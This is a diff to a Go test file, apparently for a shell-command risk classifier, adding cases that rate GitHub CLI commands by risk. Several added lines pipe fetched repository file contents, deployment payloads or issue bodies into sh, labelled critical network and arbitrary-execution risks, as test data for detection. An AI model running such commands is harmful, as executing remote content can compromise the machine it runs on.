@@ -42,6 +42,10 @@ func TestOwnServices(t *testing.T) {
 		medium | gh pr view --json number -q .number | xargs gh pr checks
 		medium | gh pr list --json number -q '.[].number' | while read n; do gh pr view $n; done
 		medium | R=$(gh repo view --json nameWithOwner -q .nameWithOwner); gh api repos/$R/pulls
+		medium | gh run view 3 --job $(gh run view 3 --json jobs --jq '.jobs[0].databaseId') --log
+		critical NETWORK_RISK EXEC_ARBITRARY | gh api repos/x/y/contents/a.json -H 'Accept: application/vnd.github.raw' --jq .number | sh
+		critical NETWORK_RISK EXEC_ARBITRARY | gh api repos/x/y/deployments --jq '.[0].payload.number' | sh
+		critical NETWORK_RISK EXEC_ARBITRARY | gh issue view 3 --json body --jq '{number: .body} | .number' | sh
 		medium..high EXEC_ARBITRARY | gh pr view $(gh pr list --json title -q '.[0].title')
 		critical NETWORK_RISK EXEC_ARBITRARY | gh issue view 3 --json body -q .body | sh
 		medium | curl -s "http://localhost:${PORT:-3000}/x" "http://127.0.0.1:$API_PORT"
